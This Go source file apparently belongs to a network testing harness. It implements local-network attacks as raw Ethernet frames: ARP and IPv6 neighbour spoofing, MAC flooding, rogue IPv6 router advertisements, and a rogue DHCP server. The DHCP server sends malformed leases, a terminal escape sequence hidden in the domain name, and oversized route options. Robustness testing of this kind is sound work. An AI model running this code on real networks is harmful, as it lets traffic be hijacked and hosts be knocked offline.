package attacker

import (
	"encoding/binary"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// send sends Ethernet frames by a link.
func send(l netlink.Link, frames ...[]byte) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	for _, f := range frames {
		to := unix.SockaddrLinklayer{Ifindex: l.Attrs().Index, Halen: 6}
		copy(to.Addr[:], f[:6])
		if err := unix.Sendto(fd, f, 0, &to); err != nil {
			return err
		}
	}
	return nil
}

// frame is an Ethernet frame.
func frame(to, from net.HardwareAddr, kind uint16, payload []byte) []byte {
	f := append(append([]byte{}, to...), from...)
	return append(binary.BigEndian.AppendUint16(f, kind), payload...)
}

func (a *attacker) mac() net.HardwareAddr {
	return net.HardwareAddr{2, 0x66, byte(a.IntN(256)), byte(a.IntN(256)), byte(a.IntN(256)), byte(a.IntN(256))}
}

var everybody = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// others are the addresses of one family that it knows.
func (a *attacker) others(v4 bool) (all []netip.Addr) {
	for _, text := range a.Addrs {
		if addr, err := netip.ParseAddr(text); err == nil && addr.Is4() == v4 {
			all = append(all, addr)
		}
	}
	return all
}

// gratuitous says by ARP that it has the others' addresses.
func (a *attacker) gratuitous() error {
	l, err := a.up()
	if err != nil {
		return err
	}
	var frames [][]byte
	for _, addr := range a.others(true) {
		mac := a.mac()
		for _, op := range []byte{1, 2} {
			p := append([]byte{0, 1, 8, 0, 6, 4, 0, op}, mac...)
			p = append(append(p, addr.AsSlice()...), everybody...)
			frames = append(frames, frame(everybody, mac, unix.ETH_P_ARP, append(p, addr.AsSlice()...)))
		}
	}
	return send(l, frames...)
}

// flood sends from many MACs.
func (a *attacker) flood() error {
	l, err := a.up()
	if err != nil {
		return err
	}
	var frames [][]byte
	for range 200 {
		frames = append(frames, frame(everybody, a.mac(), 0x88b5, make([]byte, 46)))
	}
	return send(l, frames...)
}

// icmp6 is a frame with an ICMPv6 message to all nodes, with the hop limit that neighbour
// discovery asks for.
func (a *attacker) icmp6(from netip.Addr, message []byte) []byte {
	to := netip.MustParseAddr("ff02::1")
	h := []byte{0x60, 0, 0, 0, byte(len(message) >> 8), byte(len(message)), 58, 255}
	h = append(append(h, from.AsSlice()...), to.AsSlice()...)
	sum := uint32(len(message)) + 58
	for _, b := range [][]byte{h[8:], message} {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(message[2:], ^uint16(sum))
	return frame(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, a.mac(), unix.ETH_P_IPV6, append(h, message...))
}

// linkLocal is some router's address.
func (a *attacker) linkLocal() netip.Addr {
	b := netip.MustParseAddr("fe80::66").As16()
	b[14] = byte(a.IntN(256))
	return netip.AddrFrom16(b)
}

// advertise says that it is a router of the highest preference, with prefixes and an MTU.
func (a *attacker) advertise() error {
	l, err := a.up()
	if err != nil {
		return err
	}
	var frames [][]byte
	for range 20 {
		m := []byte{134, 0, 0, 0, 64, 0x08, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
		m = append(m, 3, 4, 64, 0xc0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0)
		m = append(m, 0x20, 0x01, 0x0d, 0xb8, byte(a.IntN(256)), byte(a.IntN(256)), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
		m = append(m, 5, 1, 0, 0, 0, 0, 5, 0)
		frames = append(frames, a.icmp6(a.linkLocal(), m))
	}
	return send(l, frames...)
}

// neighbours says by neighbour advertisements that it has the others' addresses.
func (a *attacker) neighbours() error {
	l, err := a.up()
	if err != nil {
		return err
	}
	var frames [][]byte
	for _, addr := range a.others(false) {
		m := append([]byte{136, 0, 0, 0, 0xa0, 0, 0, 0}, addr.AsSlice()...)
		frames = append(frames, a.icmp6(addr, append(append(m, 2, 1), a.mac()...)))
	}
	return send(l, frames...)
}

// answerDHCP answers whoever asks for an address, by whatever link, with what is wrong in
// every way, until the process ends.
func answerDHCP() {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: 0x0008}); err != nil { // ETH_P_IP, big-endian
		return
	}
	for buf := make([]byte, 2048); ; {
		n, from, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		at, is := from.(*unix.SockaddrLinklayer)
		asked := buf[:n]
		if !is || n < 14+20+8+240 || asked[14]&0x0f != 5 || asked[23] != 17 || binary.BigEndian.Uint16(asked[36:]) != 67 {
			continue
		}
		for _, kind := range []byte{2, 5, 6} { // offer, acknowledgement, refusal
			f := dhcpAnswer(asked, kind)
			to := unix.SockaddrLinklayer{Ifindex: at.Ifindex, Halen: 6}
			copy(to.Addr[:], everybody)
			_ = unix.Sendto(fd, f, 0, &to)
		}
	}
}

// dhcpAnswer is an answer with a lease of one second and routes to everywhere.
func dhcpAnswer(asked []byte, kind byte) []byte {
	d := make([]byte, 240)
	copy(d, asked[42:42+240])
	d[0] = 2
	copy(d[16:20], []byte{10, 66, 6, 6})
	d = append(d, 53, 1, kind, 54, 4, 10, 66, 6, 1, 51, 4, 0, 0, 0, 1, 1, 4, 255, 255, 255, 0, 3, 4, 10, 66, 6, 1, 26, 2, 0, 1)
	name := "\x1b]0;P\x07x\n" + strings.Repeat("y", 100)
	d = append(append(d, 15, byte(len(name))), name...)
	for range 4 { // one option in parts, RFC 3396
		d = append(d, 121, 240)
		for i := range 30 {
			d = append(d, 24, byte(i), 2, 3, 10, 66, 6, 1)
		}
	}
	d = append(d, 255)
	udp := binary.BigEndian.AppendUint16([]byte{0, 67, 0, 68}, uint16(8+len(d)))
	udp = append(append(udp, 0, 0), d...)
	ip := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, 10, 66, 6, 1, 255, 255, 255, 255}
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
	return frame(everybody, net.HardwareAddr{2, 0x66, 0, 0, 0, 1}, unix.ETH_P_IP, append(ip, udp...))
}
